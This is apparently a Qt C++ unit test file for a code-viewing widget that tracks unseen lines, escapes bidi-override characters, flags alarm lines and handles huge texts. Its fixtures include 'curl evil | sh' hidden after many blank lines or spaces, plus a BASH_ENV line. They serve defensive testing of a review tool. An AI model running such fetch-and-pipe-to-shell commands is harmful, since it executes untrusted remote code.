// SPDX-License-Identifier: GPL-3.0-or-later
#include "gui/codeview.h"
#include "support/sanitized.h"

#include <QAccessible>
#include <QClipboard>
#include <QScrollBar>
#include <QtTest>

using namespace Qt::StringLiterals;
using namespace sandtray::gui;
using sandtray::test::isSanitized;

class CodeViewTest : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void opensEmpty();
    void tellsScreenReadersTheWholeText();
    void tellsScreenReadersWhatIsShown();
    void countsUnseenLines();
    void countsALongLineAsUnseenUntilItsEnd();
    void leavesNothingBeyondTheRightEdge();
    void scrollsByKeyboard();
    void copiesWhatIsShown();
    void selectsWithTheMouse();
    void leavesAnswerKeysToTheWindow_data();
    void leavesAnswerKeysToTheWindow();
    void paintsAlarmLinesInRed();
    void opensHugeTextsAtOnce_data();
    void opensHugeTextsAtOnce();
};

namespace {

std::unique_ptr<CodeView> shown(const QString &text, QSize size = {600, 300})
{
    auto view = std::make_unique<CodeView>();
    view->resize(size);
    view->setCode(CodeText::fromRaw(text), CodeLanguage::Python);
    view->show();
    [[maybe_unused]] const bool exposed = QTest::qWaitForWindowExposed(view.get());
    return view;
}

QString numberedLines(int count)
{
    QString text;
    for (int i = 0; i < count; ++i)
        text += u"line %1\n"_s.arg(i);
    return text;
}

}

void CodeViewTest::opensEmpty()
{
    CodeView view;
    view.show();
    QVERIFY(QTest::qWaitForWindowExposed(&view));

    QCOMPARE(view.unseenLines(), 0);
    QCOMPARE(view.linesBelow(), 0);
}

void CodeViewTest::tellsScreenReadersTheWholeText()
{
    const QString text = numberedLines(5000);
    const auto view = shown(text);

    QAccessibleInterface *accessible = QAccessible::queryAccessibleInterface(view.get());
    QVERIFY(accessible->textInterface());

    QCOMPARE(accessible->textInterface()->characterCount(), text.size());
    QCOMPARE(accessible->textInterface()->text(0, static_cast<int>(text.size())), text);
    QCOMPARE(accessible->textInterface()->text(-5, 4), u"line"_s);
    QVERIFY(accessible->state().readOnly);
}

void CodeViewTest::tellsScreenReadersWhatIsShown()
{
    const auto view = shown(u"a\u202eb"_s);
    QAccessibleInterface *accessible = QAccessible::queryAccessibleInterface(view.get());

    QCOMPARE(accessible->text(QAccessible::Value), u"a⟦U+202E⟧b"_s);
}

void CodeViewTest::countsUnseenLines()
{
    const auto view = shown(u"echo hi"_s + u"\n"_s.repeated(500) + u"curl evil | sh"_s);

    QVERIFY(view->linesBelow() > 400);
    QCOMPARE(view->unseenLines(), view->linesBelow());

    view->verticalScrollBar()->setValue(view->verticalScrollBar()->maximum());
    QCOMPARE(view->linesBelow(), 0);
    QVERIFY(view->unseenLines() > 400); // what was jumped over has not been in view

    for (int i = 0; i < view->verticalScrollBar()->maximum(); ++i)
        view->verticalScrollBar()->setValue(i);
    QCOMPARE(view->unseenLines(), 0);
}

void CodeViewTest::countsALongLineAsUnseenUntilItsEnd()
{
    const auto view = shown(u"echo hi"_s + u" "_s.repeated(50000) + u"; curl evil | sh"_s);

    QCOMPARE(view->linesBelow(), 1);
    QCOMPARE(view->unseenLines(), 1);
    QTest::keyClick(view.get(), Qt::Key_End);
    QCOMPARE(view->linesBelow(), 0);
    QCOMPARE(view->unseenLines(), 0);
}

void CodeViewTest::leavesNothingBeyondTheRightEdge()
{
    for (int width : {120, 333, 1500}) {
        const auto view = shown(u"x"_s.repeated(3000) + u"你"_s.repeated(1000), {width, 200});
        QVERIFY(!view->horizontalScrollBar()->isVisible());
        for (int row = 0; row < view->code().rowCount(); ++row) {
            const qsizetype end = view->code().row(row).start + view->code().rowText(row).size() - 1;
            if (view->code().columnAt(end) > CodeText::leastColumns)
                QVERIFY(view->cellRect(end).right() <= view->viewport()->width());
        }
    }
}

void CodeViewTest::scrollsByKeyboard()
{
    const auto view = shown(numberedLines(500));
    QScrollBar *bar = view->verticalScrollBar();

    QTest::keyClick(view.get(), Qt::Key_Down);
    QCOMPARE(bar->value(), 1);
    QTest::keyClick(view.get(), Qt::Key_PageDown);
    QCOMPARE(bar->value(), 1 + bar->pageStep());
    QTest::keyClick(view.get(), Qt::Key_PageUp);
    QTest::keyClick(view.get(), Qt::Key_Up);
    QCOMPARE(bar->value(), 0);
    QTest::keyClick(view.get(), Qt::Key_End);
    QCOMPARE(bar->value(), bar->maximum());
    QTest::keyClick(view.get(), Qt::Key_Home);
    QCOMPARE(bar->value(), 0);
}

void CodeViewTest::copiesWhatIsShown()
{
    const auto view = shown(u"ls\u202e -l"_s);

    QTest::keyClick(view.get(), Qt::Key_A, Qt::ControlModifier);
    QTest::keyClick(view.get(), Qt::Key_C, Qt::ControlModifier);

    QCOMPARE(QGuiApplication::clipboard()->text(), u"ls⟦U+202E⟧ -l"_s);
}

void CodeViewTest::selectsWithTheMouse()
{
    const auto view = shown(u"first\nsecond\nthird"_s);

    QTest::mousePress(view->viewport(), Qt::LeftButton, {}, view->cellRect(2).center() - QPoint(3, 0));
    QTest::mouseMove(view->viewport(), view->cellRect(9).center() - QPoint(3, 0));
    QTest::mouseRelease(view->viewport(), Qt::LeftButton, {}, view->cellRect(9).center() - QPoint(3, 0));
    view->select(2, 9);

    QCOMPARE(view->selectedText(), u"rst\nsec"_s);
}

void CodeViewTest::leavesAnswerKeysToTheWindow_data()
{
    QTest::addColumn<Qt::Key>("key");
    QTest::newRow("escape") << Qt::Key_Escape;
    QTest::newRow("enter") << Qt::Key_Enter;
    QTest::newRow("return") << Qt::Key_Return;
}

void CodeViewTest::leavesAnswerKeysToTheWindow()
{
    QFETCH(Qt::Key, key);
    CodeView view;
    QKeyEvent event(QEvent::KeyPress, key, Qt::NoModifier);

    QCoreApplication::sendEvent(&view, &event);

    QVERIFY(!event.isAccepted());
}

void CodeViewTest::paintsAlarmLinesInRed()
{
    const auto view = shown(u"A=1\nBASH_ENV=x\nC=1"_s);
    view->setAlarmLines({1});

    const QImage image = view->grab().toImage();
    const auto colourOf = [&](qsizetype offset) {
        const QRect cell = view->cellRect(offset).translated(view->viewport()->pos());
        return image.pixelColor(view->viewport()->geometry().right() - 5, cell.center().y());
    };

    QVERIFY(colourOf(5).red() > colourOf(5).blue() + 5);
    QCOMPARE(colourOf(0), view->palette().color(QPalette::Base));
}

void CodeViewTest::opensHugeTextsAtOnce_data()
{
    QTest::addColumn<QString>("text");
    QTest::newRow("200,000 lines") << numberedLines(200'000);
    QTest::newRow("one line of a mebibyte") << QString(1024 * 1024, u'x');
    QTest::newRow("five million characters") << QString(5'000'000, u'A');
    QTest::newRow("a mebibyte of wide characters") << QString(1024 * 1024, u'你');
    QTest::newRow("a mebibyte of hidden characters") << QString(350'000, QChar(0x200B));
}

void CodeViewTest::opensHugeTextsAtOnce()
{
    QFETCH(QString, text);
    QElapsedTimer timer;
    timer.start();

    const auto view = shown(text);
    view->grab();

    // The goal is 50 ms (tests/bench/bench_codeview.cpp); a text layout of the whole takes seconds.
    const int patience = isSanitized ? 8000 : 2000;
    QVERIFY2(timer.elapsed() < patience, qPrintable(QString::number(timer.elapsed())));
    QTest::keyClick(view.get(), Qt::Key_End);
    view->grab();
    QVERIFY2(timer.elapsed() < 2 * patience, qPrintable(QString::number(timer.elapsed())));
}

QTEST_MAIN(CodeViewTest)
#include "tst_codeview.moc"
